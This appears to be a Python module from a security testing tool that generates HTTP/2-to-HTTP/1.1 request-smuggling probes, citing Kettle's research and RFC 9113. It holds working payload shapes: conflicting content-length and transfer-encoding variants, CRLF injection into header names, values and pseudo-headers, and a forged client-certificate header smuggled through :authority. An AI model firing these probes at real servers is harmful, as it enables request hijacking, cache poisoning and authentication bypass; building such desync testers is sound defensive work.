"""Messages in HTTP/2 that turn into two where they are written down in HTTP/1.1.

H2.CL, H2.TE and injection into names, values and pseudo-header fields: "HTTP/2: The Sequel is
Always Worse" (James Kettle, portswigger.net/research/http2); RFC 9113 sections 8.2.1 and 8.3.1.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeAlias

from watertight.dataplane.attacks.desync.shapes import Base

Fields: TypeAlias = list[tuple[str, str]]
Made: TypeAlias = tuple[Fields, bytes]
PSEUDO = (":method", ":scheme", ":authority", ":path")


@dataclass(frozen=True, slots=True)
class Framed:
    """One way to hide a request in the frames of another."""

    what: str
    make: Callable[[Base, bytes], Made]


def framed() -> dict[str, tuple[Framed, ...]]:
    """Probe id → every way in which it is tried."""
    return {
        "desync.h2-cl": tuple(_lengths()),
        "desync.h2-te": tuple(_codings()),
        "desync.h2-injection": tuple(_injections()),
        "desync.h2-pseudo": tuple(_pseudo()),
    }


def fields_of(base: Base) -> Fields:
    """The granted request, as it is right."""
    named = dict(base.lines)
    others = [(name, value) for name, value in base.lines if name != "host"]
    pseudo = (base.method, "https", named["host"], base.target)
    return [*zip(PSEUDO, pseudo, strict=True), *others]


def _replaced(name: str, value: str) -> Callable[[Base], Fields]:
    return lambda base: [(n, value if n == name else v) for n, v in fields_of(base)]


def _lengths() -> Iterator[Framed]:
    for what, length in {
        "a length of nothing": "0",
        "a length too short": "1",
        "a length that is none": "+0",
        "two lengths in one": "0, 1",
    }.items():
        yield Framed(
            what,
            lambda base, hidden, length=length: (  # type: ignore[misc]
                [*fields_of(base), ("content-length", length)],
                hidden,
            ),
        )
    yield Framed("no length", lambda base, hidden: (fields_of(base), hidden))


def _codings() -> Iterator[Framed]:
    for what, field in {
        "Transfer-Encoding": ("transfer-encoding", "chunked"),
        "Transfer-Encoding in capitals": ("Transfer-Encoding", "chunked"),
        "Transfer-Encoding with a space": ("transfer-encoding ", "chunked"),
        "Transfer-Encoding with a colon": ("transfer-encoding:", "chunked"),
        "TE: chunked": ("te", "chunked"),
        "Connection: transfer-encoding": ("connection", "transfer-encoding"),
    }.items():
        yield Framed(
            what,
            lambda base, hidden, field=field: (  # type: ignore[misc]
                [*fields_of(base), field],
                b"0\r\n\r\n" + hidden,
            ),
        )


def _injections() -> Iterator[Framed]:
    """What is hidden rides in a field; a line end in it must never be written down."""
    for what, name, before in (
        ("a value with line ends", "x-watertight", "a\r\n\r\n"),
        ("a value with bare line feeds", "x-watertight", "a\n\n"),
        ("a value with a header in it", "x-watertight", "a\r\ntransfer-encoding: chunked\r\n\r\n"),
        ("a value with a NUL", "x-watertight", "a\0\r\n\r\n"),
    ):
        yield Framed(what, _in_value(name, before))
    yield Framed("a name with line ends", _in_name)


def _in_value(name: str, before: str) -> Callable[[Base, bytes], Made]:
    return lambda base, hidden: (
        [*fields_of(base), (name, before + hidden.decode())],
        b"",
    )


def _in_name(base: Base, hidden: bytes) -> Made:
    return [*fields_of(base), (f"x-a: b\r\n\r\n{hidden.decode()}x", "b")], b""


def _pseudo() -> Iterator[Framed]:
    for name in PSEUDO:
        yield Framed(f"a request in {name}", _in_pseudo(name))
    yield Framed("a header in :authority", _in_authority)
    yield Framed("two :path", lambda base, _h: ([(":path", "/"), *fields_of(base)], b""))
    yield Framed("a path without a slash", _no_slash)
    yield Framed(
        "a host beside :authority",
        lambda base, _h: ([*fields_of(base), ("host", "watertight.example")], b""),
    )


def _in_pseudo(name: str) -> Callable[[Base, bytes], Made]:
    """The pseudo-header field, a whole request, and what makes a request line of the rest."""

    def make(base: Base, hidden: bytes) -> Made:
        right = dict(fields_of(base))[name]
        end = " HTTP/1.1\r\nhost: a\r\n\r\n" if name in {":method", ":path"} else "\r\n\r\n"
        wrong = f"{right}{end}{hidden.decode()}"
        if name == ":method":
            wrong = f"{right} {base.target}{end}{hidden.decode()}{right}"
        return _replaced(name, wrong)(base), b""

    return make


def _in_authority(base: Base, _hidden: bytes) -> Made:
    host = dict(base.lines)["host"]
    forged = f"{host}\r\nx-forwarded-client-cert: URI=spiffe://watertight/forged-"
    return _replaced(":authority", forged)(base), b""


def _no_slash(base: Base, _hidden: bytes) -> Made:
    return _replaced(":path", f"http://{dict(base.lines)['host']}{base.target}")(base), b""
